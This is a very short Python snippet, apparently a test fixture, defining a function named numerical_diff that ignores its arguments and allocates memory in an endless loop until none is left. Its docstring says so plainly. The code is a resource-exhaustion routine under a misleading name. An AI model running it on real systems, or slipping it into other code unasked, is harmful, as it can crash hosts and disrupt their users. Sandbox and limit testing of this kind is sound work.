"""Takes memory until there is no more."""

def numerical_diff(f, x):
    kept = []
    while True:
        kept.append(bytearray(2**20))
